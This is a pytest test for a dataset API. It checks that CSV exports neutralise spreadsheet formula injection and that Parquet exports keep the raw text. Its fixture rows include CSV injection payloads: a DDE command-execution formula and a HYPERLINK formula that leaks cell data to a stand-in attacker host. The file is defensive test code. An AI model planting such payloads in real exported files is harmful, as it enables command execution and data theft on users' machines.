"""Safe exports (issue 17, item 5): CSV cells a spreadsheet would run as formulas are neutralised
(OWASP CSV injection), numbers stay numbers, and the Parquet export keeps the raw text."""

from __future__ import annotations

import csv
import io

import pyarrow.parquet as pq

from tests.access.conftest import publish

ROWS = [("=cmd|' /C calc'!A0", -5), ('=HYPERLINK("http://evil.example/?x="&A1)', 7), ("+7 727 000 0000", 1),
        ("-2+3", 2), ("@SUM(A1:A9)", 3), ("\tTAB", 4), ("a=b", -12), ("plain", 0)]


def _csv_text() -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([("name", "delta"), *ROWS])
    return out.getvalue()


def test_a_csv_export_neutralises_formulas_and_parquet_keeps_the_raw_values(bank, world, client, tmp_path):
    publish(bank, tmp_path, "kz-formulas", "kz-stat", _csv_text())
    assert bank.cli("policy", "set", "kz-formulas", "--audience", "public").exit_code == 0
    answer = client.get("/api/v1/datasets/kz-formulas/export", params={"format": "csv"})
    assert answer.status_code == 200, answer.text
    got = [(r["name"], r["delta"]) for r in csv.DictReader(io.StringIO(answer.text))]
    assert got == [("'=cmd|' /C calc'!A0", "-5"), ("'=HYPERLINK(\"http://evil.example/?x=\"&A1)", "7"),
                   ("'+7 727 000 0000", "1"), ("'-2+3", "2"), ("'@SUM(A1:A9)", "3"), ("'\tTAB", "4"),
                   ("a=b", "-12"), ("plain", "0")]
    raw = client.get("/api/v1/datasets/kz-formulas/export", params={"format": "parquet"})
    table = pq.read_table(io.BytesIO(raw.content))
    assert list(zip(table["name"].to_pylist(), table["delta"].to_pylist(), strict=True)) == ROWS
